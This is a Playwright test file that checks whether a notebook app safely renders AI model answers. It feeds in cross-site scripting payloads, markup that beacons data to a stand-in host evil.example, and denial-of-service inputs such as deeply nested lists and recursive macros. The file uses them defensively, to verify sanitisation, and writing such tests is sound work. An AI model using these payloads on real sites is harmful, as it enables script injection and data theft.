import type { Locator, Page } from '@playwright/test'
import { expectAccessible } from './support/accessibility.ts'
import { addNotebook, ask, deleteMessage, turn } from './support/conversation.ts'
import { expect, test } from './support/test.ts'

/** Each tries to execute code or to send data; `ATTACK` stands for a script that would be detected. */
const ATTACKS = {
  'a script': '<script>ATTACK</script>',
  'an event handler': '<img src=x onerror="ATTACK"><body onload="ATTACK"><input autofocus onfocus="ATTACK">',
  'a broken tag': '<img src="x` `<script>ATTACK</script>"` `><svg><script>ATTACK</script>',
  'javascript links':
    '[click](javascript:ATTACK) [click](JaVaScRiPt:ATTACK) [click](java&#x73;cript:ATTACK) <javascript:ATTACK>',
  'links with control characters':
    '[click](<java\nscript:ATTACK>) [click](\u0001javascript:ATTACK) [click](vbscript:ATTACK)',
  'data links': '[click](data:text/html,<script>ATTACK</script>) ![x](data:text/html;base64,PHNjcmlwdD4=)',
  'a remote image': '![secret](https://evil.example/pixel.png?stolen=everything)',
  'an image by reference': '![secret][x]\n\n[x]: https://evil.example/pixel.png',
  'an image of no protocol':
    '![secret](//evil.example/pixel.png) <img src="//evil.example/raw.png" srcset="//evil.example/2x.png 2x">',
  'a frame':
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ATTACK</script>"></iframe>',
  'a form': '<form action="https://evil.example/"><button>Continue</button></form>',
  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'another base': '<base href="https://evil.example/">',
  styles:
    '<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/bg.png)}</style><div style="position:fixed;inset:0;background:url(//evil.example/y.png)">covered</div>',
  'a stylesheet':
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p">',
  'an SVG':
    '<svg onload="ATTACK"><image href="https://evil.example/i.png"/><foreignObject><iframe src="javascript:ATTACK"></iframe></foreignObject></svg>',
  'an SVG image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)',
  'an embedded object': '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  media:
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  'maths that links':
    '$\\href{javascript:ATTACK}{x}$ $$\\includegraphics{https://evil.example/m.png}$$ $\\htmlData{x=y}{z}$ $\\url{javascript:ATTACK}$',
  'endless macros': '$$\\def\\a{\\a\\a}\\a$$',
  'a diagram':
    '```mermaid\ngraph TD; A["<img src=x onerror=ATTACK>"] --> B; click A "javascript:ATTACK"\n```',
  'a code block': '```html\n<script>ATTACK</script>\n```\n```"><script>ATTACK</script>\nx\n```',
  'a table': '| <img src=x onerror=ATTACK> |\n|---|\n| <script>ATTACK</script> |',
  'clobbered names':
    '<a id="content" name="documentElement"></a><form id="location"></form><img name="cookie">',
  'an open fence': '~~~\n</textarea></script><script>ATTACK</script>',
} as const

test('no output of a model is executed, or makes a request', { tag: '@desktop' }, async ({
  page,
  models,
  me,
  supervision,
}) => {
  // The policy of the frame that draws diagrams refuses what a definition contains.
  supervision.expectConsole(/Content Security Policy.*\/diagrams\/mermaid\.js/)
  const { id } = await addNotebook(me, 'Hostile')
  await page.goto(`/notebooks/${id}`)
  for (const [name, attack] of Object.entries(ATTACKS)) {
    await test.step(name, async () => {
      const question = `Give me ${name}.`
      models.answer(question, `Before.\n\n${attack.replaceAll('ATTACK', "document.title='pwned'")}\n\nAfter.`)
      await ask(page, question)
      const answer = turn(page, question)
      await expect(answer.getByRole('button', { name: 'Copy answer' })).toBeVisible()
      await expectHarmless(page, answer)
    })
  }
  await page.reload()
  await expect(page.getByText('Before.').last()).toBeVisible()
  await expect(page).toHaveURL(`/notebooks/${id}`)
  await expect(page).toHaveTitle(/Hostile/)
})

/** Each of these once replaced the page, or blocked it for seconds. */
const HEAVY = {
  'lists in lists': `${'- '.repeat(5000)}a`,
  'quotations in quotations': `${'>'.repeat(4000)}a`,
  'quoted lines': '> a'.repeat(4000),
  'open brackets': '['.repeat(40_000),
  'open formulas': '\\('.repeat(20_000),
  'a long table': `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(10_000)}`,
  'emphasis in emphasis': `${'**'.repeat(2500)}a${'**'.repeat(2500)}`,
  'a very long answer': 'All of **this** is one line, '.repeat(8000),
} as const

/** Processor time of the page for one answer, which does not grow when other programs are busy. */
const SECONDS_MAX = 4

test('no answer blocks the page', { tag: '@desktop' }, async ({ page, models, me }) => {
  test.slow()
  const devtools = await page.context().newCDPSession(page)
  await devtools.send('Performance.enable', { timeDomain: 'threadTicks' })
  const secondsOfTasks = async () => {
    const { metrics } = await devtools.send('Performance.getMetrics')
    return metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN
  }
  for (const [name, heavy] of Object.entries(HEAVY)) {
    await test.step(name, async () => {
      const { id } = await addNotebook(me, name)
      await page.goto(`/notebooks/${id}`)
      const question = `Give me ${name}.`
      models.answer(question, `Before.\n\n${heavy}\n\nAfter.`)
      const before = await secondsOfTasks()
      await ask(page, question)
      const answer = turn(page, question)
      await expect(answer.getByRole('button', { name: 'Copy answer' })).toBeVisible({ timeout: 60_000 })
      await expect(answer).toContainText('After.')
      expect((await secondsOfTasks()) - before).toBeLessThan(SECONDS_MAX)
    })
  }
  await page.reload()
  const last = turn(page, 'Give me a very long answer.')
  await expect(last.getByRole('button', { name: 'Format more' })).toBeVisible()
  await deleteMessage(page, last)
  await expect(last).toBeHidden()
})

async function expectHarmless(page: Page, answer: Locator): Promise<void> {
  await expect(answer).toContainText('Before.')
  await expect(page).not.toHaveTitle('pwned')
  // Read at once: maths is text until its renderer has loaded, and its links disappear then.
  const addresses = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
  for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:)/)
  for (const role of ['form', 'document', 'img'] as const) {
    for (const found of await answer.getByRole(role).all()) {
      expect(await found.evaluate((element) => element.outerHTML)).not.toMatch(/evil|srcdoc|<form/)
    }
  }
}

test('a remote image is a link until a user follows it', { tag: '@desktop' }, async ({ page, models }) => {
  models.answer('A picture', '![A lighthouse](https://pictures.example/lighthouse.png)')
  await page.goto('/new')
  await ask(page, 'A picture')
  const link = page.getByRole('link', { name: /A lighthouse/ })
  await expect(link).toContainText('pictures.example')
  await expect(page.getByRole('img', { name: 'A lighthouse' })).toBeHidden()
  await expectAccessible(page)
})
